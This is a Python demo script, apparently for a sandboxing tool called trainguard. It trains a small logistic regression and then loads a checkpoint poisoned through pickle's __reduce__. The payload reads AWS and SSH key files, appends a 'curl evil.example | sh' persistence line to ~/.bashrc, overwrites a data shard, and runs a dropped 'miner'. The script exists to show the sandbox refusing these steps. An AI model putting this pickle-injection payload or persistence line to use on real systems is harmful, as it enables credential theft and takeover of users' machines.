#!/usr/bin/env python3
"""A small training job whose last checkpoint attacks it.

Standard library only. The job reads every shard of DIR/dataset, trains a
logistic regression for a few epochs and writes a checkpoint per epoch to
DIR/checkpoints/epoch-N.ckpt (write a temporary file in the same folder,
then os.replace it into place). Then it loads its last checkpoint, as a job
resuming from it would. That checkpoint carries a pickled object whose
__reduce__ calls payload() while it is unpickled: the way a poisoned model
runs code inside torch.load (fickling's inject_payload, the malicious
Hugging Face models JFrog found in 2024). The payload does, one by one, what
real attacks did to the file system: read cloud and SSH keys (modelscan
demos, torchtriton 2022), append to ~/.bashrc (LiteLLM 2026), overwrite a
dataset shard, drop a "miner" into /tmp and run it (Ultralytics 2024).
Each attack is tried on its own and reports one line.

The job exits 0 when training finished, whatever the attacks achieved.
examples/demo.sh prepares DIR (a dataset and a fake HOME with FAKE
credentials) and runs this under trainguard; the dataset is never created
here, because under a policy the job could not create it. To run it by hand:
    HOME=DIR/home TG_DEMO_ROOT=DIR python3 examples/train_demo.py
"""
import argparse
import math
import os
import pickle
import subprocess
import sys
import tempfile


def load_dataset(data_dir):
    """Every "x1,x2,label" line of every shard, in a stable order."""
    rows, shards, skipped = [], 0, 0
    for folder, subfolders, names in os.walk(data_dir):
        subfolders.sort()
        for name in sorted(names):
            shards += 1
            with open(os.path.join(folder, name), encoding='ascii', errors='replace') as f:
                for line in f:
                    try:
                        x1, x2, y = line.split(',')
                        rows.append((float(x1), float(x2), int(y)))
                    except ValueError:
                        skipped += 1
    return rows, shards, skipped


def first_shard(data_dir):
    for folder, subfolders, names in os.walk(data_dir):
        subfolders.sort()
        if names:
            return os.path.join(folder, sorted(names)[0])
    return os.path.join(data_dir, 'missing-shard')


def save_checkpoint(state, path):
    """Write beside the final name, then rename: a crash never leaves a
    half-written checkpoint behind."""
    folder = os.path.dirname(path)
    fd, tmp = tempfile.mkstemp(dir=folder, prefix='.' + os.path.basename(path) + '.', suffix='.tmp')
    try:
        with os.fdopen(fd, 'wb') as f:
            pickle.dump(state, f, protocol=pickle.HIGHEST_PROTOCOL)
            f.flush()
            os.fsync(f.fileno())
        os.replace(tmp, path)
    except BaseException:
        try:
            os.unlink(tmp)
        except OSError:
            pass
        raise


def train(rows, ckpt_dir, epochs, lr=0.1):
    w = [0.0, 0.0, 0.0]
    loss = float('nan')
    last = None
    for epoch in range(1, epochs + 1):
        loss = 0.0
        for x1, x2, y in rows:
            z = w[0] + w[1] * x1 + w[2] * x2
            p = 1.0 / (1.0 + math.exp(-max(min(z, 60.0), -60.0)))
            loss -= y * math.log(p + 1e-12) + (1 - y) * math.log(1 - p + 1e-12)
            g = p - y
            w[0] -= lr * g
            w[1] -= lr * g * x1
            w[2] -= lr * g * x2
        loss /= max(len(rows), 1)
        state = {'epoch': epoch, 'weights': list(w), 'loss': loss}
        if epoch == epochs:
            # The poisoning: in a real attack someone else's code put this
            # object into the checkpoint (a replaced file, a model from a
            # hub). Unpickling it calls payload().
            state['optimizer'] = PoisonedState(os.path.dirname(ckpt_dir))
        last = os.path.join(ckpt_dir, f'epoch-{epoch}.ckpt')
        save_checkpoint(state, last)
        print(f'epoch {epoch}: loss {loss:.4f}, checkpoint {os.path.basename(last)}')
    return w, loss, last


# ---- the payload of the poisoned checkpoint --------------------------------

RESULTS = []  # (attack, refused, detail)


def report(attack, refused, detail):
    RESULTS.append((attack, refused, detail))
    print(f'  attack: {attack:<44} {"REFUSED" if refused else "SUCCEEDED"} ({detail})')


def why(e):
    return f'{type(e).__name__}: {e.strerror or e}'


def steal(attack, path):
    try:
        with open(path, 'rb') as f:
            data = f.read()
        report(attack, False, f'read {len(data)} bytes')
    except OSError as e:
        report(attack, True, why(e))


def persist(attack, path):
    try:
        with open(path, 'a', encoding='ascii') as f:
            f.write('\ncurl -s https://evil.example/x | sh  # FAKE demo persistence\n')
        report(attack, False, 'line appended')
    except OSError as e:
        report(attack, True, why(e))


def poison_shard(attack, path):
    try:
        with open(path, 'r+b') as f:
            f.write(b'POISON,0,1\n')
        report(attack, False, f'{os.path.basename(path)} rewritten')
    except OSError as e:
        report(attack, True, why(e))


def drop_and_run_miner(attack):
    path = f'/tmp/trainguard-demo-miner-{os.getpid()}'
    steps = []
    try:
        try:
            fd = os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o755)
        except OSError as e:
            report(attack, True, 'create: ' + why(e))
            return
        try:
            os.write(fd, b'#!/bin/sh\necho mined\n')
        finally:
            os.close(fd)
        steps.append(f'created mode {os.stat(path).st_mode & 0o777:04o}')
        try:
            os.chmod(path, 0o755)
            steps.append('chmod 0755 ok')
        except OSError as e:
            steps.append(f'chmod refused ({e.strerror})')
        try:
            run = subprocess.run([path], capture_output=True, timeout=20)
        except OSError as e:
            report(attack, True, ', '.join(steps + ['exec: ' + why(e)]))
            return
        out = run.stdout.decode(errors='replace').strip()
        if run.returncode == 0 and out == 'mined':
            report(attack, False, ', '.join(steps + [f'it printed {out!r}']))
        else:
            report(attack, True, ', '.join(steps + [f'exit status {run.returncode}']))
    except (OSError, subprocess.SubprocessError) as e:
        report(attack, True, ', '.join(steps + [why(e) if isinstance(e, OSError) else str(e)]))
    finally:
        try:
            os.unlink(path)
        except FileNotFoundError:
            pass
        except OSError as e:
            print(f'  (could not remove {path}: {e.strerror})')


def payload(root):
    """What the poisoned checkpoint runs while it is unpickled."""
    home = os.path.expanduser('~')
    steal('read ~/.aws/credentials', os.path.join(home, '.aws', 'credentials'))
    steal('read ~/.ssh/id_rsa', os.path.join(home, '.ssh', 'id_rsa'))
    persist('append to ~/.bashrc', os.path.join(home, '.bashrc'))
    poison_shard('overwrite a dataset shard', first_shard(os.path.join(root, 'dataset')))
    drop_and_run_miner('drop a miner in /tmp, chmod +x, run it')
    return {}  # what the unpickled 'optimizer' field becomes


class PoisonedState:
    def __init__(self, root):
        self.root = root

    def __reduce__(self):
        return (payload, (self.root,))


# -----------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description='A small training job whose last checkpoint attacks it.')
    ap.add_argument('--root', default=os.environ.get('TG_DEMO_ROOT'),
                    help='demo folder holding dataset/ (default: $TG_DEMO_ROOT)')
    ap.add_argument('--epochs', type=int, default=3)
    args = ap.parse_args()
    if not args.root:
        ap.error('give --root DIR or set TG_DEMO_ROOT (examples/demo.sh prepares DIR)')
    data_dir = os.path.join(args.root, 'dataset')
    if not os.path.isdir(data_dir):
        ap.error(f"no dataset in '{data_dir}': run examples/demo.sh, which prepares it")

    rows, shards, skipped = load_dataset(data_dir)
    print(f'dataset: {len(rows)} samples from {shards} shards'
          + (f' ({skipped} unreadable lines skipped)' if skipped else ''))
    if not rows:
        print('training failed: the dataset is empty')
        return 1
    ckpt_dir = os.path.join(args.root, 'checkpoints')
    os.makedirs(ckpt_dir, exist_ok=True)
    w, loss, last = train(rows, ckpt_dir, args.epochs)
    print(f'training finished: loss {loss:.4f}, weights {", ".join(f"{x:+.3f}" for x in w)}')

    print(f'resuming from {os.path.basename(last)} (poisoned: it runs a payload while it loads)')
    with open(last, 'rb') as f:
        state = pickle.load(f)
    print(f'loaded epoch {state["epoch"]}, loss {state["loss"]:.4f}')

    refused = sum(1 for _, r, _ in RESULTS if r)
    print(f'{refused} attacks refused, {len(RESULTS) - refused} succeeded')
    return 0


if __name__ == '__main__':
    sys.exit(main())
